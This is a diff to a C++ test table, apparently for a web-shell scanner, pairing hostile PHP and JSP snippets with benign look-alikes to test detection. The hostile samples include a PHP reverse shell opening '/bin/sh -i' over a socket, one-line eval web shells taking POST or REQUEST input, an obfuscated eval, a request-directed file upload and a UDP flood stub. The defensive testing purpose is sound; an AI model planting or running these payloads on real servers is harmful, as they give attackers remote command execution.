@@ -120,6 +120,13 @@ const CTwin kTwins[] = {
      "<% Object total = new javax.script.ScriptEngineManager().getEngineByName(\"js\").eval(\"1 + 2\"); %>"},
     {"reverse shell", "<?php $s = fsockopen($_GET['h'], 4444); proc_open('/bin/sh -i', array(0=>$s, 1=>$s, 2=>$s), $p);",
      "<?php $s = fsockopen('mail.example.com', 25); fwrite($s, \"HELO x\\r\\n\");"},
+    // A sink of a variable, the request read elsewhere; tools shells carry.
+    {"eval of a variable", "<?php $c = $_POST['c'];\n$d = str_replace('x', '', $c);\n@eval($d);",
+     "<?php $c = $_POST['c'];\n$v = eval('return 1;');"},
+    {"upload into the request's folder", "<?php $d = $_POST['dir'];\nmove_uploaded_file($_FILES['f']['tmp_name'], $d . '/' . $n);",
+     "<?php move_uploaded_file($tmp, UPLOAD_DIR . $name);\n$page = $_POST['page'];"},
+    {"UDP flood", "<?php $h = $_GET['host']; $s = fsockopen(\"udp://$h\", $p);",
+     "<?php $h = $_GET['host']; $s = fsockopen(\"tcp://$h\", 80);"},
     // Texts that name shells.
     {"page about shells", "<?php @eval($_POST['cmd']);?>", "<p>一句话木马 and Rasputin are names of web shells.</p>"},
     {"change log", "<?php eval($_REQUEST[1]);", "* Fixed: the scanner now finds the Rasputin shell (issue tracker)."},
